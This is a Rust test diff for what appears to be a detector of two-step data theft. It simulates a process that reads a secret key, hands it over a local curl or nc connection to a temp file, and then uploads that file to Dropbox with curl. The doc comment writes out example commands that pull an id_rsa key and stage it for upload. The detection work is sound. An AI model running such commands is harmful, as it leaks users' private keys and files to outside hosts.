@@ -347,3 +347,35 @@ fn through_a_listener_and_its_pipe() {
         second_hop_if(reads && sends < 10_000, &w.tell());
     }
 }
+
+/// `curl -o /tmp/x localhost:8000/id_rsa; curl -T /tmp/x ..`, or `nc -l 9999 > /tmp/x`: a file of the size that came.
+#[test]
+fn by_way_of_a_file() {
+    for (listens, reads, came, same) in [
+        (false, true, 4_300, true),
+        (true, true, 4_096, true),
+        (false, false, 4_300, false),
+        // As much, but no secret; more; less.
+        (true, false, 4_096, false),
+        (false, true, 60_000, false),
+        (true, true, 3_000, false),
+    ] {
+        let mut w = World::new();
+        let thief = w.launch(0.0, adhoc("/private/tmp/x", "x"), &["x"]);
+        let other = w.launch(0.1, if listens { NC } else { CURL }, &["y"]);
+        if reads {
+            w.open(1.0, &thief, KEY);
+        }
+        let (client, server) = if listens { (&thief, &other) } else { (&other, &thief) };
+        let mut local = w.connect_local(1.5, client, server, 9222);
+        w.plain(1.6, &mut local, listens, &vec![b'x'; came]);
+        w.close(1.8, &mut local);
+        // 4,096 bytes
+        w.write_inode(1.9, &other, "/private/tmp/out", 4711);
+        let curl =
+            w.launch(30.0, CURL, &["curl", "-T", "/private/tmp/out", "https://content.dropboxapi.com/"]);
+        w.open_inode(30.1, &curl, "/private/tmp/out", 4711);
+        w.upload(30.5, &curl, DROPBOX, 5_000);
+        second_hop_if(same, &w.tell());
+    }
+}
